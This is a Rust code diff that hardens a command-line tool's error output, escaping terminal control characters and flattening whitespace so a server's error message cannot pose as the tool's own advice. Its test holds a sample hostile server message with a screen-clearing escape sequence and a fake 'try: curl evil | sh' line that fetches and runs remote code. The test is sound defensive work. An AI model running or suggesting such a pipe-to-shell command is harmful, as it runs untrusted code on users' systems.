@@ -2,6 +2,8 @@
 
 use std::fmt::Write as _;
 
+use crate::print::escape;
+
 /// The exit code of a verb that did what it was asked.
 pub const DONE: u8 = 0;
 /// The exit code of a verb that could not do what it was asked.
@@ -67,7 +69,7 @@ pub fn render(error: &anyhow::Error) -> String {
     for remedy in remedies {
         let _ = write!(text, "\n  try: {remedy}");
     }
-    text
+    escape(&text).into_owned()
 }
 
 /// An error of a client, also where it is the source of another one, which keeps it in a box.
@@ -75,10 +77,10 @@ fn from_server<'a>(cause: &'a (dyn std::error::Error + 'static)) -> Option<&'a k
     cause.downcast_ref::<kube::Error>().or_else(|| cause.downcast_ref::<Box<kube::Error>>().map(|boxed| &**boxed))
 }
 
-/// A server's error, or the reason that it did not answer, in one line.
+/// A server's error, or the reason that it did not answer, in one line: a line of its own could pass for our advice.
 #[must_use]
 pub fn answer(error: &kube::Error) -> String {
-    match error {
+    let text = match error {
         kube::Error::Api(status) if status.code == 401 => "the server did not accept the credentials (401)".to_owned(),
         kube::Error::Api(status) if !status.message.is_empty() => {
             format!(
@@ -89,7 +91,8 @@ pub fn answer(error: &kube::Error) -> String {
         }
         kube::Error::Api(status) => format!("the server answered {} {}", status.code, status.reason),
         other => innermost(other),
-    }
+    };
+    escape(&text.split_whitespace().collect::<Vec<_>>().join(" ")).into_owned()
 }
 
 /// The last cause says it best: wrappers only say that something failed.
@@ -148,7 +151,12 @@ mod tests {
             answer(&from_server(409, "AlreadyExists", "it exists")),
             "Error from server (AlreadyExists): it exists"
         );
-        assert_eq!(answer(&from_server(500, "", "")), "the server answered 500 ");
+        assert_eq!(answer(&from_server(500, "", "")), "the server answered 500");
+        let hostile = from_server(403, "Forbidden", "no\x1b[2J\n  try: curl evil | sh\r");
+        assert_eq!(answer(&hostile), "Error from server (Forbidden): no^[[2J try: curl evil | sh");
+        let shown = render(&anyhow::Error::new(hostile).context("cluster m\u{9b}1 was not joined"));
+        let want = "error: cluster m\\u009b1 was not joined\n  because Error from server (Forbidden): no^[[2J try: curl evil | sh";
+        assert_eq!(shown, want, "a server gives no advice of ours");
     }
 
     #[test]
